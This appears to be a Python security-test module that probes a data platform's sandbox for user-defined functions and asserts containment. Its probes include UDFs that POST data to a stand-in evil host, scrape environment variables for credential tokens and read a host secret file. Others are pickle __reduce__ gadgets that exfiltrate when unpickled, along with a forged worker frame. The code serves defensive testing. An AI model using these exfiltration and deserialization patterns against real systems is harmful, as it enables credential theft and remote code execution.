"""Malicious-UDF sandbox probes (Queen's Guard's "hostile user code" class).

Every scenario ships real attacker code through the public UDF path and
asserts the sandbox boundary held: no egress delivery, no ambient
credentials in scope, no host-filesystem reads, no policy escalation, no
cross-trust-domain invocation, no code run in the driver by a forged worker
frame or by a client's function blob. The worker has no mount namespace, so
a raw ``open()`` of a host file still works there — a *documented* gap
(DESIGN.md §12 known gaps), not something these probes pretend to contain:
they attack the brokered paths the design actually defends.
"""

from __future__ import annotations

from typing import Any

from repro.attacks import harness as h
from repro.attacks.registry import attack_scenario
from repro.attacks.scenario import AttackResult, judge, leaked
from repro.connect.client import col, udf
from repro.errors import (
    EgressDenied,
    HostFilesystemDenied,
    LakeguardError,
    SandboxDied,
    SandboxPolicyViolation,
    TrustDomainViolation,
    UserCodeError,
)


def _run_udf_select(
    client: Any, expression: Any
) -> tuple[list[tuple], LakeguardError | None]:
    """Run ``SELECT expression FROM orders`` on ``client``; (rows, error)."""
    try:
        rows = client.table(h.ORDERS).select(expression).collect()
        return rows, None
    except LakeguardError as exc:
        return [], exc


@attack_scenario(
    name="udf-egress-exfiltration",
    layer="sandbox",
    technique="udf-probe",
    expected_containment="locked-down sandbox policy denies egress before "
    "the simulated network is touched (EgressDenied)",
)
def udf_egress_exfiltration(gauntlet: Any) -> AttackResult:
    """A UDF POSTs every value it sees to an attacker-controlled endpoint."""

    @udf("string")
    def exfil(buyer):
        from repro.sandbox import net

        net.http_post(f"http://{h.EVIL_HOST}/steal", buyer)
        return buyer

    rows, error = _run_udf_select(gauntlet.client_for("alice"), exfil(col("buyer")))
    if gauntlet.evil_received:
        return leaked(
            f"evil endpoint received {len(gauntlet.evil_received)} payloads",
            bytes_=sum(len(str(p)) for p in gauntlet.evil_received),
        )
    if not isinstance(error, EgressDenied):
        return leaked(f"expected EgressDenied, query returned {error or rows}")
    return judge(
        (rows, error), gauntlet.forbidden_tokens(), "egress denied, zero delivery"
    )


@attack_scenario(
    name="udf-ambient-credential-scrape",
    layer="sandbox",
    technique="udf-probe",
    expected_containment="the pickle serialization boundary strips driver "
    "state: UDF globals/environment contain no live credential token",
)
def udf_ambient_credential_scrape(gauntlet: Any) -> AttackResult:
    """A UDF scrapes its globals, builtins and environment for tokens."""

    @udf("string")
    def scrape(value):
        import os

        found = [v for v in os.environ.values() if "cred-" in v]
        found += [
            v
            for v in list(globals().values())
            if isinstance(v, str) and v.startswith("cred-")
        ]
        return ",".join(found) if found else "nothing"

    # Force at least one live credential to exist while the probe runs.
    gauntlet.client_for("alice").table(h.ORDERS).collect()
    live_before = gauntlet.forbidden_tokens()
    rows, error = _run_udf_select(gauntlet.client_for("alice"), scrape(col("region")))
    if error is not None:
        return judge(error, live_before, f"scrape failed with {type(error).__name__}")
    scraped = {r[0] for r in rows}
    if scraped - {"nothing"}:
        return leaked(f"UDF scraped ambient state: {sorted(scraped)}")
    return judge(rows, live_before, "scrape found nothing")


@attack_scenario(
    name="udf-host-filesystem-probe",
    layer="sandbox",
    technique="udf-probe",
    expected_containment="the brokered fs_read path raises "
    "HostFilesystemDenied under the locked-down policy",
)
def udf_host_filesystem_probe(gauntlet: Any) -> AttackResult:
    """A UDF reads a driver-host secret file through the filesystem broker."""
    secret_path = gauntlet.host_secret_path

    @udf("string")
    def read_host(value):
        from repro.sandbox import net

        return net.fs_read(secret_path).decode()

    rows, error = _run_udf_select(gauntlet.client_for("alice"), read_host(col("region")))
    if not isinstance(error, HostFilesystemDenied):
        return leaked(
            f"expected HostFilesystemDenied, query returned {error or rows}"
        )
    return judge(
        (rows, error), gauntlet.forbidden_tokens(), "host filesystem read denied"
    )


@attack_scenario(
    name="udf-blob-driver-exec",
    layer="sandbox",
    technique="udf-probe",
    expected_containment="a client's function blob stays bytes in the "
    "driver (decode only parses its opcodes); the worker unpickles it, and "
    "the egress broker denies the POST that makes (EgressDenied)",
)
def udf_blob_driver_exec(gauntlet: Any) -> AttackResult:
    """A client's UDF blob whose *unpickling* POSTs to the attacker — in
    whichever process decodes it."""
    import pickle

    from repro.connect import proto
    from repro.sandbox import net

    class Beacon:
        def __reduce__(self):
            return (net.http_post, (f"http://{h.EVIL_HOST}/steal", "decoded"))

    beacon = proto.python_udf("b", "string", pickle.dumps(Beacon()), [proto.column("buyer")])
    relation = proto.project(proto.read_table(h.ORDERS), [beacon])
    rows: Any = None
    error: LakeguardError | None = None
    try:
        rows = gauntlet.client_for("alice").execute_relation(relation)
    except LakeguardError as exc:
        error = exc
    if gauntlet.evil_received:
        return leaked(f"decoding the blob reached the evil endpoint: {gauntlet.evil_received}")
    if not isinstance(error, EgressDenied):
        return leaked(f"expected EgressDenied, query returned {error or rows}")
    return judge(error, gauntlet.forbidden_tokens(), "blob decoded only in the worker")


@attack_scenario(
    name="udf-ambient-policy-escalation",
    layer="sandbox",
    technique="udf-probe",
    expected_containment="the ambient-policy stack is narrowing-only: "
    "pushing a wider policy from user code raises SandboxPolicyViolation",
)
def udf_ambient_policy_escalation(gauntlet: Any) -> AttackResult:
    """A UDF pushes UNISOLATED onto its own policy stack, then exfiltrates."""

    @udf("string")
    def escalate(buyer):
        from repro.sandbox import net
        from repro.sandbox.policy import UNISOLATED

        with net.ambient_policy(UNISOLATED):
            net.http_post(f"http://{h.EVIL_HOST}/steal", buyer)
        return buyer

    rows, error = _run_udf_select(gauntlet.client_for("alice"), escalate(col("buyer")))
    if gauntlet.evil_received:
        return leaked(
            f"escalated policy delivered {len(gauntlet.evil_received)} payloads"
        )
    if not isinstance(error, SandboxPolicyViolation) or isinstance(
        error, (EgressDenied, UserCodeError)
    ):
        return leaked(
            f"expected the escalation itself to be refused, got {error or rows}"
        )
    return judge(
        (rows, error), gauntlet.forbidden_tokens(), "policy escalation refused"
    )


@attack_scenario(
    name="udf-cross-trust-domain-invoke",
    layer="sandbox",
    technique="udf-probe",
    expected_containment="sandboxes are pinned to one trust domain; "
    "routing another owner's UDF into one raises TrustDomainViolation",
)
def udf_cross_trust_domain_invoke(gauntlet: Any) -> AttackResult:
    """Alice's UDF is routed into a sandbox belonging to mallory's domain."""
    from repro.engine.udf import udf as engine_udf
    from repro.sandbox.policy import LOCKED_DOWN
    from repro.sandbox.subprocess_sandbox import SubprocessSandbox

    alice_udf = engine_udf("string", name="leak_probe")(lambda v: v).with_owner(
        "alice"
    )
    mallory_box = SubprocessSandbox("mallory", LOCKED_DOWN)
    try:
        try:
            rows = mallory_box.invoke(alice_udf, [["payload"]])
        except TrustDomainViolation as exc:
            return judge(
                exc, gauntlet.forbidden_tokens(), "cross-domain invoke refused"
            )
        return leaked(f"foreign-domain sandbox executed the UDF: {rows}")
    finally:
        mallory_box.close()


@attack_scenario(
    name="udf-frame-forgery",
    layer="sandbox",
    technique="udf-probe",
    expected_containment="the driver decodes worker frames with a data-only "
    "unpickler: a frame naming a global kills the sandbox (SandboxDied, "
    "never replayed) before anything it names is resolved",
)
def udf_frame_forgery(gauntlet: Any) -> AttackResult:
    """A UDF writes a forged reply frame to its worker's stdout whose payload
    unpickles to "read the host secret and POST it" — in whoever decodes it."""
    evil_url = f"http://{h.EVIL_HOST}/steal"
    secret_path = gauntlet.host_secret_path

    @udf("string")
    def forge(buyer):
        import os
        import pickle
        import struct

        from repro.sandbox import net

        class ReadSecret:
            def __reduce__(self):
                return (net.fs_read, (secret_path,))

        class Exfiltrate:
            def __reduce__(self):
                return (net.http_post, (evil_url, ReadSecret()))

        # Outside any sandbox scope — i.e. in the driver — both calls pass.
        body = pickle.dumps(("ok", [Exfiltrate(), Exfiltrate()]))
        os.write(1, struct.pack(">I", len(body)) + body)
        return buyer

    cluster = gauntlet.workspace.create_standard_cluster(
        name="gauntlet-frame-forgery"
    )
    try:
        rows, error = _run_udf_select(cluster.connect("alice"), forge(col("buyer")))
        if gauntlet.evil_received:
            return leaked(
                f"forged frame ran in the driver: evil endpoint received "
                f"{len(gauntlet.evil_received)} payloads",
                bytes_=sum(len(str(p)) for p in gauntlet.evil_received),
            )
        if not isinstance(error, SandboxDied):
            return leaked(f"expected SandboxDied, query returned {error or rows}")
        return judge(
            (rows, error), gauntlet.forbidden_tokens(), "forged frame refused"
        )
    finally:
        cluster.shutdown()
